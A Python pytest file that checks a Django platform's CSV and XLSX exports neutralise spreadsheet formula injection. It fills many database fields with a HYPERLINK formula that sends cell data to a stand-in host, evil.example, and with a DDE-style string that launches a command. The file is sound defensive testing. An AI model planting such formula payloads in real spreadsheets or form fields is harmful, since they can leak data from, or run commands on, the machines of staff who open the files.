"""No spreadsheet the platform writes carries a live formula.

A public respondent, a conference guest or a data owner can type ``=HYPERLINK(...)``; the demo
gets that text in every field that reaches an export, then every CSV and XLSX download is
fetched as staff. A CSV cell may not start a formula; an XLSX file may not hold a formula
element (``<f>``) at all. Each file must contain the text (else the walk proves nothing).
A second test refuses new writers that bypass ``core.spreadsheets``.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse

from core.spreadsheets import FORMULA_START

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")'
ROOT = Path(__file__).resolve().parents[2]


def _poison() -> None:
    from django.db.models import F

    from measures.models import Measure
    from monitoring.models import IndicatorValue
    from participation.models import (
        CodedPassage,
        ConferenceCard,
        Registration,
        Statement,
    )
    from surveys.models import Answer, Question, Survey, SurveyVersion
    from workshops.models import Card

    Statement.objects.update(text=EVIL)
    CodedPassage.objects.update(memo=EVIL)
    ConferenceCard.objects.update(text=EVIL)
    Registration.objects.update(organisation=EVIL)
    Card.objects.update(text=EVIL)
    Measure.objects.update(title=EVIL)
    IndicatorValue.objects.update(age_group="@SUM(1+1)*cmd|' /C calc'!A0")
    Answer.objects.filter(question__type="text").update(value_text=EVIL)
    Question.objects.filter(type="text").update(text={"de": EVIL, "en": EVIL})
    SurveyVersion.objects.update(revision=F("revision") + 1)  # rebuild the cached structures
    for survey in Survey.objects.all():
        survey.title = {code: EVIL for code in survey.languages}
        survey.save(update_fields=["title"])


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


_NUMBER = re.compile(r"[+-]?[\d.,]+\s?%?")


def _check_csv(name: str, data: bytes) -> None:
    cells = _csv_cells(data)
    assert any("HYPERLINK" in c or "@SUM" in c for c in cells), f"{name}: payload never reached"
    live = [c for c in cells if c.startswith(FORMULA_START) and not _NUMBER.fullmatch(c)]
    assert not live, f"{name}: live formula cells {live[:3]}"


def _check_xlsx(name: str, data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {
            part: archive.read(part).decode("utf-8")
            for part in archive.namelist()
            if part.endswith(".xml")
        }
    text = "".join(parts.values())
    assert "HYPERLINK" in text or "@SUM" in text, f"{name}: payload never reached"
    for part, xml in parts.items():
        if part.startswith("xl/worksheets/"):
            assert not re.search(r"<(?:\w+:)?f[\s>/]", xml), f"{name}: formula in {part}"


def _check(name: str, data: bytes) -> None:
    if data[:2] == b"PK":
        _check_xlsx(name, data)
    else:
        _check_csv(name, data)


def test_every_spreadsheet_export_neutralises_formulas(
    demo_db, client, django_capture_on_commit_callbacks
):
    from measures.models import Measure
    from monitoring.models import IndicatorValue
    from participation.models import Conference, Process
    from surveys.models import Survey
    from surveys.results import services as result_services
    from workshops.models import Workshop

    _poison()
    from django.contrib.auth import get_user_model

    staff = get_user_model().objects.get(username="staff")
    client.force_login(staff)
    process = Process.objects.get(pk=Measure.objects.values("process").first()["process"])
    conference = Conference.objects.filter(process=process).first()
    workshop = Workshop.objects.filter(process=process, cards__isnull=False).first()
    indicator_code = IndicatorValue.objects.values_list("indicator__code", flat=True).first()
    urls = {
        "statements.csv": reverse("participation:statement_export", args=["csv"]),
        "statements.xlsx": reverse("participation:statement_export", args=["xlsx"]),
        "passages.csv": reverse("participation:passage_export", args=[process.pk, "csv"]),
        "passages.xlsx": reverse("participation:passage_export", args=[process.pk, "xlsx"]),
        "registrations.csv": reverse("participation:registration_export", args=[conference.pk]),
        "conference-cards.csv": reverse(
            "participation:conference_documentation_export", args=[conference.pk, "csv"]
        ),
        "conference-cards.xlsx": reverse(
            "participation:conference_documentation_export", args=[conference.pk, "xlsx"]
        ),
        "workshop-cards.csv": reverse("workshops:protocol_export", args=[workshop.pk, "csv"]),
        "workshop-cards.xlsx": reverse("workshops:protocol_export", args=[workshop.pk, "xlsx"]),
        "measures.csv": reverse("measures:export", args=[process.pk, "csv"]),
        "measures.xlsx": reverse("measures:export", args=[process.pk, "xlsx"]),
        "monitoring.csv": reverse("monitoring:download", args=[process.pk, "csv"]),
        "monitoring.xlsx": reverse("monitoring:download", args=[process.pk, "xlsx"]),
        "monitoring-opensdg.csv": reverse(
            "monitoring:indicator_download", args=[process.pk, indicator_code, "opensdg"]
        ),
    }
    survey = Survey.objects.filter(process=process, responses__isnull=False).first()
    urls["xlsform.xlsx"] = reverse("surveys:survey_export", args=[survey.pk])
    for name, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, f"{name}: {response.status_code}"
        body = b"".join(response.streaming_content) if response.streaming else response.content
        _check(name, body)
    for fmt in ("csv", "xlsx", "codebook"):
        for labels in (False, True):
            with django_capture_on_commit_callbacks(execute=True):
                job = result_services.export_job_create(
                    survey=survey, user=staff, format=fmt, labels=labels
                )
            job.refresh_from_db()
            assert job.file, f"survey export {fmt}: {job.status} {job.error}"
            with default_storage.open(job.file.name, "rb") as handle:
                _check(f"survey-{fmt}-labels={labels}", handle.read())


def test_xlsform_keeps_the_text_exactly_for_a_round_trip():
    from openpyxl import Workbook, load_workbook

    from core.spreadsheets import append_literal_row

    book = Workbook()
    append_literal_row(book.active, [EVIL, "plain", 3])
    buffer = io.BytesIO()
    book.save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.value == EVIL and cell.data_type == "s"


# Modules allowed to build a csv.writer or an openpyxl Workbook themselves: the helper, and
# writers that pass every cell through it (checked by the walk above).
ALLOWED_WRITERS = {
    "core/spreadsheets.py",
    "monitoring/exports.py",
    "surveys/results/exports.py",
    "surveys/interchange/xlsform/write.py",
}


def test_no_spreadsheet_writer_bypasses_the_shared_helper():
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.split("/")[0] in {".venv", "tests", "benchmarks", "scripts", "staticfiles"}:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                func = node.func
                name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
                owner = getattr(func.value, "id", "") if isinstance(func, ast.Attribute) else ""
                if (owner == "csv" and name in ("writer", "DictWriter")) or name == "Workbook":
                    if relative not in ALLOWED_WRITERS:
                        offenders.append(f"{relative}:{node.lineno}")
    assert not offenders, (
        "write spreadsheets through core.spreadsheets (download, csv_bytes, xlsx_bytes, "
        f"csv_writer, safe_row, append_literal_row): {offenders}"
    )
